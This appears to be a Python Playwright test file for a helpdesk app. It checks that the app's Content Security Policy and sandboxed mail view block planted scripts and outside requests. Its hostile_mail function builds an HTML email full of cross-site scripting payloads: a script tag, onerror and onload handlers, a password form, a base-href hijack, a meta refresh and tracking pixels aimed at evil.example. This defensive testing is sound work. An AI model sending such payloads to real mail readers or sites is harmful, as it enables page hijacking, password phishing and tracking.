"""What a real browser makes of the policy: nothing of ours breaks it, and what is planted is seen."""

from __future__ import annotations

from email.message import EmailMessage
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from agents.models import Agent, Brand
from customers.models import Customer
from tests import make
from tests.browser.test_main_job import ana, brand, deliver, maria, sign_in  # noqa: F401  fixtures
from tests.faults import Faults
from tests.house import House
from tickets.models import Ticket

pytestmark = [pytest.mark.browser, pytest.mark.house]

PICTURE = Path(__file__).resolve().parents[2] / "docs" / "img"
PLANTED = {
    "violates the following Content Security Policy": """() => {
        const script = document.createElement("script");
        script.textContent = "window.planted = true";
        document.body.append(script);
    }""",
    "style-src": """() => document.body.insertAdjacentHTML("beforeend", '<p style="color: red">x</p>')""",
    "planted on the console": """() => console.error("planted on the console")""",
    "planted in a script": """() => { setTimeout(() => { throw new Error("planted in a script"); }); }""",
    "asked elsewhere: https://track.example": """() => { new Image().src = "https://track.example/pixel.gif"; }""",
    "/static/nowhere.js": """() => {
        const script = document.createElement("script");
        script.src = "/static/nowhere.js";
        document.body.append(script);
    }""",
}


def test_control_what_is_planted_in_a_page_is_seen(
    house: House,
    page: Page,
    faults: Faults,
) -> None:
    page.goto(house.url)
    assert faults.left() == []
    for words, planted in PLANTED.items():
        before = len(faults.found)
        page.evaluate(planted)
        page.wait_for_timeout(200)
        assert any(words in fault for fault in faults.found[before:]), (words, faults.found[before:])
    assert not page.evaluate("window.planted")
    faults.allowed += [""]  # all of it was planted


def test_control_a_context_of_its_own_is_heard_too(house: House, page: Page, faults: Faults) -> None:
    browser = page.context.browser
    assert browser is not None
    own = browser.new_page()
    own.goto(house.url)
    own.evaluate("() => console.error('planted')")
    own.wait_for_timeout(200)
    own.context.close()
    assert any("planted" in fault for fault in faults.left())
    faults.allowed += ["planted"]


def hostile_mail(picture: bytes) -> bytes:
    mail = EmailMessage()
    mail["From"], mail["To"] = "Maria Rossi <maria@posteo.example>", "care@ff.example"
    mail["Subject"], mail["Message-ID"] = "Look", "<look@posteo.example>"
    mail.set_content("The lamp is broken.")
    mail.add_alternative(
        "<h1 style='color: rgb(170, 0, 0)'>The lamp is broken</h1><img src='cid:lamp@x' width=32 height=32>"
        "<script>parent.document.title = 'taken'</script><img src=x onerror='parent.document.title = 1'>"
        "<svg onload='parent.document.title = 2'></svg><meta http-equiv=refresh content='0;url=https://evil.example'>"
        "<form action='https://evil.example'><input name=password></form><base href='https://evil.example/'>"
        "<style>@import url(https://evil.example/x.css);</style><p style='background: url(https://evil.example/x)'>x</p>"
        "<img src='https://evil.example/pixel.gif' width=1 height=1>"
        "<a href='https://evil.example/' target=_top>win</a>",
        subtype="html",
    )
    mail.get_payload()[1].add_related(picture, "image", "png", cid="<lamp@x>")
    return mail.as_bytes()


def test_a_mail_is_shown_as_it_was_sent_and_does_nothing(
    house: House,
    page: Page,
    brand: Brand,  # noqa: F811
    ana: Agent,  # noqa: F811
    maria: Customer,  # noqa: F811
    faults: Faults,
) -> None:
    # Where nothing may run, the test's own looking into the frame is told so.
    faults.allowed += ["^console at [^ ]+/sent/[^ ]+ Blocked script execution"]
    picture = next(PICTURE.rglob("*.png")).read_bytes()
    make.make_queue(brand=brand, name="Care", address="care@ff.example", is_default=True)
    deliver(house, hostile_mail(picture))
    ticket = Ticket.objects.get()
    sign_in(page, house, ana)
    page.goto(f"{house.url}/tickets/{ticket.reference}/")
    title = page.title()
    page.get_by_text("Show as it was sent").click()
    frame = page.frame_locator(".d-sent iframe")
    expect(frame.locator("h1")).to_have_text("The lamp is broken")
    expect(frame.locator("h1")).to_have_css("color", "rgb(170, 0, 0)")
    expect(frame.get_by_text("2 pictures from elsewhere are not loaded.")).to_be_visible()
    expect(frame.locator("img[src^='/shown/']")).to_have_js_property("complete", True)
    assert frame.locator("img[src^='/shown/']").evaluate("(img) => img.naturalWidth") > 0
    frame.get_by_text("win").click()
    assert page.title() == title
    assert page.url.startswith(house.url)
    thumbnail = page.locator(".d-file__picture")
    thumbnail.scroll_into_view_if_needed()
    expect(thumbnail).to_have_js_property("complete", True)
    assert thumbnail.evaluate("(img) => img.naturalWidth") > 0
    with page.expect_download() as got:
        page.locator(".d-file").click()
    assert got.value.path().read_bytes() == picture
